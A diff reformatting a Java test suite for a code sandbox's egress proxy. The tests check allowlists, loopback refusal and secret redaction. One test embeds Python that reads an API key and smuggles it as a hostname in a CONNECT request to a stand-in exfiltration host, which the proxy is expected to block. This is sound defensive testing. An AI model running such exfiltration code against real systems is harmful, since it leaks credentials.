@@ -53,16 +53,21 @@ class EgressHostileTest {
     }
 
     private static ExecutionRequest.Builder python(String source, NetworkPolicy policy) {
-        return ExecutionRequest.builder().code(Code.python(source)).network(policy)
+        return ExecutionRequest.builder()
+                .code(Code.python(source))
+                .network(policy)
                 .limits(l -> l.wallTime(Duration.ofSeconds(20)));
     }
 
     @Test
     void allowlistedHostIsReachableThroughTheProxyAndTheDecisionIsRecorded() {
         int before = HITS.get();
-        ExecutionResult r = sandbox.execute(python("import urllib.request, sys\n"
-                + "print(urllib.request.urlopen(f'http://127.0.0.1:{sys.argv[1] if len(sys.argv) > 1 else "
-                + port + "}/x', timeout=10).read().decode())", NetworkPolicy.allow("127.0.0.1:" + port)).build());
+        ExecutionResult r = sandbox.execute(python(
+                        "import urllib.request, sys\n"
+                                + "print(urllib.request.urlopen(f'http://127.0.0.1:{sys.argv[1] if len(sys.argv) > 1 else "
+                                + port + "}/x', timeout=10).read().decode())",
+                        NetworkPolicy.allow("127.0.0.1:" + port))
+                .build());
 
         assertThat(r.succeeded()).as(r.stderr()).isTrue();
         assertThat(r.stdout()).contains("hello from the host");
@@ -74,12 +79,14 @@ class EgressHostileTest {
     @Test
     void javaProgramUsesTheProxyToo() {
         int before = HITS.get();
-        ExecutionResult r = sandbox.execute(ExecutionRequest.builder().code(Code.java("import java.net.*;\n"
-                + "class Get { public static void main(String[] a) throws Exception {\n"
-                + "  var c = new URL(\"http://127.0.0.1:" + port + "/j\").openConnection();\n"
-                + "  System.out.println(new String(c.getInputStream().readAllBytes())); } }"))
-                .network(NetworkPolicy.allow("127.0.0.1:" + port)).limits(l -> l.wallTime(Duration.ofSeconds(30))
-                        .cpuTime(Duration.ofSeconds(20))).build());
+        ExecutionResult r = sandbox.execute(ExecutionRequest.builder()
+                .code(Code.java("import java.net.*;\n"
+                        + "class Get { public static void main(String[] a) throws Exception {\n"
+                        + "  var c = new URL(\"http://127.0.0.1:" + port + "/j\").openConnection();\n"
+                        + "  System.out.println(new String(c.getInputStream().readAllBytes())); } }"))
+                .network(NetworkPolicy.allow("127.0.0.1:" + port))
+                .limits(l -> l.wallTime(Duration.ofSeconds(30)).cpuTime(Duration.ofSeconds(20)))
+                .build());
 
         assertThat(r.succeeded()).as(r.stderr()).isTrue();
         assertThat(r.stdout()).contains("hello from the host");
@@ -91,7 +98,8 @@ class EgressHostileTest {
         // E45-E50 (corpus e02): loopback, IP literal encodings, metadata, other hosts and ports.
         String source = HostileCorpusTest.corpus().get("e02_proxy_abuse.py");
         int before = HITS.get();
-        ExecutionResult r = sandbox.execute(python(source, NetworkPolicy.allow("api.example.test")).build());
+        ExecutionResult r = sandbox.execute(
+                python(source, NetworkPolicy.allow("api.example.test")).build());
 
         assertThat(r.stdout()).contains("proxy: http://127.0.0.1:3128").doesNotContain(" 200 ");
         assertThat(r.stdout().lines().filter(l -> l.contains("403")).count()).isEqualTo(8);
@@ -102,12 +110,14 @@ class EgressHostileTest {
     @Test
     void theOptedInLoopbackPortIsTheOnlyOneAndOnlyWhenThePolicyAllowsIt() {
         int before = HITS.get();
-        ExecutionResult r = sandbox.execute(python("import urllib.request\n"
-                + "for url in ['http://127.0.0.1:" + port + "/', 'http://localhost:" + port + "/', "
-                + "'http://127.0.0.1:" + (port == 65535 ? 1 : port + 1) + "/']:\n"
-                + "    try:\n        urllib.request.urlopen(url, timeout=10)\n        print('OPEN', url)\n"
-                + "    except Exception as e:\n        print('REFUSED', url, getattr(e, 'code', e))",
-                NetworkPolicy.allow("example.org")).build());
+        ExecutionResult r = sandbox.execute(python(
+                        "import urllib.request\n"
+                                + "for url in ['http://127.0.0.1:" + port + "/', 'http://localhost:" + port + "/', "
+                                + "'http://127.0.0.1:" + (port == 65535 ? 1 : port + 1) + "/']:\n"
+                                + "    try:\n        urllib.request.urlopen(url, timeout=10)\n        print('OPEN', url)\n"
+                                + "    except Exception as e:\n        print('REFUSED', url, getattr(e, 'code', e))",
+                        NetworkPolicy.allow("example.org"))
+                .build());
 
         assertThat(r.stdout()).doesNotContain("OPEN").contains("REFUSED");
         assertThat(HITS.get()).isEqualTo(before);
@@ -116,8 +126,10 @@ class EgressHostileTest {
 
     @Test
     void withoutAllowlistTheProxyVariablesAreAbsentAndNoSocketIsMounted() {
-        ExecutionResult r = sandbox.execute(python("import os\n"
-                + "print(os.environ.get('HTTPS_PROXY'), os.path.exists('/run/egress.sock'))", NetworkPolicy.none()).build());
+        ExecutionResult r = sandbox.execute(python(
+                        "import os\n" + "print(os.environ.get('HTTPS_PROXY'), os.path.exists('/run/egress.sock'))",
+                        NetworkPolicy.none())
+                .build());
 
         assertThat(r.stdout().strip()).isEqualTo("None False");
         assertThat(r.output().network()).isEmpty();
@@ -125,8 +137,10 @@ class EgressHostileTest {
 
     @Test
     void programKilledByAnOutputCapBehindTheForwarderIsStillReportedAsKilled() {
-        ExecutionResult r = sandbox.execute(python("while True:\n    print('z' * 200)", NetworkPolicy.allow("example.org"))
-                .limits(l -> l.maxOutputBytes(4096)).build());
+        ExecutionResult r =
+                sandbox.execute(python("while True:\n    print('z' * 200)", NetworkPolicy.allow("example.org"))
+                        .limits(l -> l.maxOutputBytes(4096))
+                        .build());
 
         assertThat(r).isInstanceOf(ExecutionResult.Killed.class);
         assertThat(Map.of("limit", ((ExecutionResult.Killed) r).limit().id())).containsEntry("limit", "output");
@@ -135,13 +149,17 @@ class EgressHostileTest {
     @Test
     void secretSmuggledAsAHostNameOrFileNameIsMaskedInTheResult() {
         String secret = "sk_live_smuggledValue42";
-        ExecutionResult r = sandbox.execute(python("import os, socket\n"
-                + "key = os.environ['API_KEY']\n"
-                + "open(key + '.txt', 'w').write('x')\n"
-                + "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
-                + "s.sendall(f'CONNECT {key}.exfil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n"
-                + "print(s.recv(200).decode().splitlines()[0])\n", NetworkPolicy.allow("api.example.com"))
-                .secret("API_KEY", secret).outputGlob("*.txt").build());
+        ExecutionResult r = sandbox.execute(python(
+                        "import os, socket\n"
+                                + "key = os.environ['API_KEY']\n"
+                                + "open(key + '.txt', 'w').write('x')\n"
+                                + "s = socket.create_connection(('127.0.0.1', 3128), timeout=10)\n"
+                                + "s.sendall(f'CONNECT {key}.exfil.example:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n"
+                                + "print(s.recv(200).decode().splitlines()[0])\n",
+                        NetworkPolicy.allow("api.example.com"))
+                .secret("API_KEY", secret)
+                .outputGlob("*.txt")
+                .build());
 
         assertThat(r.succeeded()).as(r.stderr()).isTrue();
         assertThat(r.stdout()).contains("403");
@@ -149,7 +167,8 @@ class EgressHostileTest {
             assertThat(d.allowed()).isFalse();
             assertThat(d.host()).doesNotContain(secret).contains("[REDACTED]");
         });
-        assertThat(r.output().files()).singleElement()
+        assertThat(r.output().files())
+                .singleElement()
                 .satisfies(f -> assertThat(f.path()).doesNotContain(secret).contains("[REDACTED]"));
     }
 }
